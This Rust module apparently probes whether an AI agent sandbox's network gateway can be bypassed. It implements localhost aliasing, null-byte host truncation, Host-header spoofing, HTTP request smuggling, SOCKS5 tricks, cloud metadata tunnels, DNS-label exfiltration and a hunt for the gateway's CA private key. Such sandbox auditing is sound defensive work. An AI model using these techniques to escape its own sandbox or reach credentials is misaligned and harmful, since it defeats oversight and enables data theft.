//! Ways past the gateway of a sandbox that may reach one name on the network. The target is a
//! listener of the host, by whatever name; where there is no gateway, it is tried directly.

use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream, UdpSocket};
use std::path::Path;
use std::time::Duration;

use super::{any_of, read};
use crate::{Scene, Tried};

const PATIENCE: Duration = Duration::from_millis(1500);
/// The name that the sandbox may reach, by its rules. No host has this name.
pub(crate) const ALLOWED: &str = "allowed.ringwall.test";
const MOST_ANSWER: u64 = 16 << 10;

/// Where the proxy listens, as programs are told.
fn proxy() -> Option<SocketAddr> {
    let names = ["http_proxy", "HTTP_PROXY", "all_proxy", "ALL_PROXY"];
    let told = names.iter().find_map(|name| std::env::var(name).ok())?;
    let (_, place) = told.rsplit_once("//").unwrap_or(("", &told));
    let (_, place) = place.rsplit_once('@').unwrap_or(("", place));
    place.trim_end_matches('/').parse().ok()
}

fn connect(to: SocketAddr) -> io::Result<TcpStream> {
    let stream = TcpStream::connect_timeout(&to, PATIENCE)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.set_write_timeout(Some(PATIENCE))?;
    Ok(stream)
}

fn heard(stream: &mut TcpStream) -> String {
    let mut answer = Vec::new();
    let mut piece = [0; 4096];
    // Until there is a whole head; some answers never end.
    while let Ok(length @ 1..) = stream.read(&mut piece) {
        answer.extend_from_slice(piece.get(..length).unwrap_or_default());
        if answer.windows(4).any(|end| end == b"\r\n\r\n") || answer.len() as u64 > MOST_ANSWER {
            break;
        }
    }
    String::from_utf8_lossy(&answer).into_owned()
}

fn ports(scene: &Scene) -> Vec<String> {
    let of = |to: &String| to.rsplit_once(':').map(|(_, port)| port.to_owned());
    scene.tcp.iter().filter_map(of).collect()
}

/// A tunnel to this place, and the greeting through it. Without a proxy, straight ahead.
fn tunnel(scene: &Scene, authority: &str, host: &str) -> io::Result<String> {
    let refused = |answer: &str| {
        let line = answer.lines().next().unwrap_or("no answer").to_owned();
        io::Error::new(io::ErrorKind::PermissionDenied, line)
    };
    let mut stream = match proxy() {
        Some(proxy) => {
            let mut stream = connect(proxy)?;
            write!(stream, "CONNECT {authority} HTTP/1.1\r\nHost: {host}\r\n\r\n")?;
            let answer = heard(&mut stream);
            if !answer.starts_with("HTTP/1.1 200") {
                return Err(refused(&answer));
            }
            stream
        }
        None => connect(authority.parse().map_err(io::Error::other)?)?,
    };
    stream.write_all(scene.greeting.as_bytes())?;
    Ok(format!("{authority} was reached"))
}

pub(crate) fn connect_to_host(scene: &Scene) -> Tried {
    any_of(&scene.tcp, |to| tunnel(scene, to, to))
}

/// The name that is allowed stands in the head, the place that is not in the line.
pub(crate) fn connect_with_other_head(scene: &Scene) -> Tried {
    any_of(&scene.tcp, |to| tunnel(scene, to, &format!("{ALLOWED}:443")))
}

/// Names and numbers that all mean this machine.
pub(crate) fn connect_by_other_names(scene: &Scene) -> Tried {
    let names = [
        "2130706433",
        "0x7f000001",
        "0177.0.0.1",
        "127.1",
        "127.0.0.1.",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "localhost",
        "LOCALHOST",
        "localhost.",
        "0.0.0.0",
    ];
    let all = ports(scene).into_iter().flat_map(|port| names.map(|name| format!("{name}:{port}")));
    any_of(all, |to| tunnel(scene, &to, &to))
}

/// What a resolver cuts off and a rule does not (the proxy of Claude Code before 2.1.90).
pub(crate) fn connect_by_cut_names(scene: &Scene) -> Tried {
    let names = [
        format!("127.0.0.1%00.{ALLOWED}"),
        format!("{ALLOWED}@127.0.0.1"),
        format!("127.0.0.1#{ALLOWED}"),
        format!("127.0.0.1\\.{ALLOWED}"),
        "127.0.0.1".to_owned(),
    ];
    let all = ports(scene)
        .into_iter()
        .flat_map(|port| names.clone().map(|name| format!("{name}:{port}")));
    any_of(all, |to| tunnel(scene, &to, &format!("{ALLOWED}:443")))
}

/// Not a tunnel but a request, which other code may look at.
pub(crate) fn plain_request(scene: &Scene) -> Tried {
    let all = scene.tcp.iter().flat_map(|to| {
        [
            format!("http://{to}/"),
            format!("http://{ALLOWED}@{to}/"),
            format!("http://{ALLOWED}:443@{to}/"),
        ]
    });
    any_of(all, |target| {
        let place = target.trim_start_matches("http://").trim_end_matches('/');
        let place = place.rsplit_once('@').map_or(place, |(_, place)| place);
        send(
            scene,
            place,
            &format!(
                "POST {target} HTTP/1.1\r\nHost: {ALLOWED}\r\nContent-Length: {}\r\n\r\n{}",
                scene.greeting.len(),
                scene.greeting
            ),
        )
    })
}

/// Two lengths, and a second request inside the first.
pub(crate) fn smuggled_request(scene: &Scene) -> Tried {
    let heads = [
        "Content-Length: 4\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        "Content-Length: 0\r\nContent-Length: 400",
        "Transfer-Encoding : chunked",
    ];
    let all = scene.tcp.iter().flat_map(|to| heads.map(|head| (to, head)));
    any_of(all, |(to, head)| {
        let inner = format!(
            "POST http://{to}/ HTTP/1.1\r\nHost: {to}\r\nContent-Length: {}\r\n\r\n{}",
            scene.greeting.len(),
            scene.greeting
        );
        send(
            scene,
            to,
            &format!(
                "POST http://{ALLOWED}/ HTTP/1.1\r\nHost: {ALLOWED}\r\n{head}\r\n\r\n0\r\n\r\n{inner}"
            ),
        )
    })
}

/// To the proxy; without one, to the place itself.
fn send(scene: &Scene, place: &str, request: &str) -> io::Result<String> {
    let Some(proxy) = proxy() else {
        connect(place.parse().map_err(io::Error::other)?)?.write_all(scene.greeting.as_bytes())?;
        return Ok(format!("{place} was reached"));
    };
    let mut stream = connect(proxy)?;
    stream.write_all(request.as_bytes())?;
    let answer = heard(&mut stream);
    match answer.starts_with("HTTP/1.1 2") {
        true => Ok(format!("{place} was reached")),
        false => Err(io::Error::other(answer.lines().next().unwrap_or("no answer").to_owned())),
    }
}

/// SOCKS5, with addresses and with a name that ends early.
pub(crate) fn socks(scene: &Scene) -> Tried {
    let cut = format!("127.0.0.1\0.{ALLOWED}");
    let name = |name: &str| {
        let mut bytes = vec![3, u8::try_from(name.len()).unwrap_or(u8::MAX)];
        bytes.extend(name.bytes());
        bytes
    };
    let places = [vec![1, 127, 0, 0, 1], name("localhost"), name("127.0.0.1"), name(&cut)];
    let all =
        ports(scene).into_iter().flat_map(|port| places.clone().map(|place| (place, port.clone())));
    any_of(all, |(place, port)| {
        let port: u16 = port.parse().map_err(io::Error::other)?;
        let Some(proxy) = proxy() else {
            connect(SocketAddr::from(([127, 0, 0, 1], port)))?
                .write_all(scene.greeting.as_bytes())?;
            return Ok("it was reached".to_owned());
        };
        let mut stream = connect(proxy)?;
        stream.write_all(&[5, 1, 0])?;
        stream.read_exact(&mut [0; 2])?;
        stream.write_all(&[&[5, 1, 0], place.as_slice(), &port.to_be_bytes()].concat())?;
        let mut answer = [0; 10];
        stream.read_exact(&mut answer)?;
        if answer[1] != 0 {
            return Err(io::Error::other(format!("SOCKS refuses with {}", answer[1])));
        }
        stream.write_all(scene.greeting.as_bytes())?;
        Ok("it was reached".to_owned())
    })
}

/// Where clouds hand out credentials. A tunnel there is all that is tried.
pub(crate) fn metadata(scene: &Scene) -> Tried {
    let places = [
        "169.254.169.254:80",
        "[fd00:ec2::254]:80",
        "metadata.google.internal:80",
        "168.63.129.16:80",
        "100.100.100.200:80",
    ];
    any_of(places, |place| match proxy() {
        Some(_) => tunnel(scene, place, place),
        None => connect(place.parse().map_err(io::Error::other)?)
            .map(|_| format!("{place} was reached")),
    })
}

/// Data in the labels of names (CVE-2025-55284): a resolver that asks further carries it out.
pub(crate) fn names_as_messages(scene: &Scene) -> Tried {
    let servers = std::fs::read_to_string("/etc/resolv.conf").unwrap_or_default();
    let told = servers.lines().filter_map(|line| line.strip_prefix("nameserver ")).map(str::trim);
    let all: Vec<String> = told.map(str::to_owned).chain(["127.0.0.1".to_owned()]).collect();
    any_of(
        all.iter().flat_map(|server| [1u8, 16, 10].map(|kind| (server, kind))),
        |(server, kind)| {
            let mut query = vec![0x52, 0x57, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
            for label in [scene.mark.as_str(), "example", "com"] {
                query.push(u8::try_from(label.len()).unwrap_or(63));
                query.extend(label.bytes());
            }
            query.extend([0, 0, kind, 0, 1]);
            let socket = UdpSocket::bind("0.0.0.0:0")?;
            socket.set_read_timeout(Some(PATIENCE))?;
            // Connected, so that the kernel tells when there is no listener.
            socket.connect((server.as_str(), 53))?;
            socket.send(&query)?;
            let mut answer = [0; 512];
            let length = socket.recv(&mut answer)?;
            let answer = answer.get(..length).unwrap_or_default();
            match (answer.get(3).map(|flags| flags & 15), answer.get(7)) {
                // "No such name" would be the answer of a server that got the question.
                (Some(0), Some(1..)) | (Some(3), _) if proxy().is_none() => {
                    Ok("the name went out".to_owned())
                }
                (Some(0), Some(1..)) => Ok("the name was answered".to_owned()),
                (code, _) => Err(io::Error::other(format!("the resolver refuses: {code:?}"))),
            }
        },
    )
}

/// The key with which the gateway makes certificates would make them for any caller.
pub(crate) fn authority_key(_: &Scene) -> Tried {
    let told = ["SSL_CERT_FILE", "NODE_EXTRA_CA_CERTS"].iter().find_map(std::env::var_os);
    let Some(directory) = told.as_deref().and_then(|file| Path::new(file).parent()) else {
        return Tried::Failed("no authority is named".to_owned());
    };
    let found =
        std::fs::read_dir(directory).into_iter().flatten().flatten().map(|entry| entry.path());
    let holds_key =
        |path: &std::path::PathBuf| read(path).is_ok_and(|text| text.contains("PRIVATE KEY"));
    match found.into_iter().find(holds_key) {
        Some(path) => Tried::Succeeded(format!("{} holds a key", path.display())),
        None => Tried::Failed("certificates only".to_owned()),
    }
}
